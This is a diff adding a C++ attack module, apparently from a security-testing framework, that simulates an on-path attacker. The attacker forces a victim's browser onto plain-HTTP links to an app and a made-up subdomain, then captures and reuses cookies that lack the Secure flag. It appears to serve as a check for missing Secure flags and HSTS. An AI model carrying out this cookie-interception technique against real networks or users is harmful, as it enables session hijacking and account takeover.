@@ -1,0 +1,44 @@
+// wire-cookie: in the victim's network, who has signed in over https as he should. A link to http,
+// on the app's own name or on one below it that need not even exist, makes the browser show in the
+// clear every cookie that is not Secure (RFC 6265bis 4.1.2.5; HSTS with includeSubDomains, RFC
+// 6797).
+#include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
+#include "core/attack/session.h"
+#include "core/attack/stolen.h"
+
+namespace parapet::attack {
+namespace {
+
+class WireCookie final : public Agent {
+    void run(Target& target) override {
+        if (target.line() == nullptr || !victim_signs_in(target)) return;
+        std::string const app = target.surface().host;
+        std::string const below = random_word(target, 6) + "." + app;
+        target.line()->meddle([below](http::Request const& request, Line::Beyond const& beyond) {
+            return request.host == below ? page("<h1>Welcome to the Wi-Fi</h1>") : beyond(request);
+        });
+        for (std::string const& host : {app, below}) {
+            target.victim()->opens("http://" + host + "/");
+            target.victim()->turns_away();
+        }
+        target.line()->leave();
+        use_what_passed(target);
+    }
+
+    static void use_what_passed(Target& target) {
+        std::vector<std::string> headers;
+        for (Passed const& passed : target.line()->passed())
+            if (passed.request)
+                if (auto const cookies = passed.request->headers.get("cookie"))
+                    headers.push_back(*cookies);
+        target.note(std::to_string(headers.size()) + " requests with cookies passed in the clear.");
+        for (std::string const& header : headers) use(target, cookies_in(header));
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_wire_cookie() { return std::make_unique<WireCookie>(); }
+
+}  // namespace parapet::attack
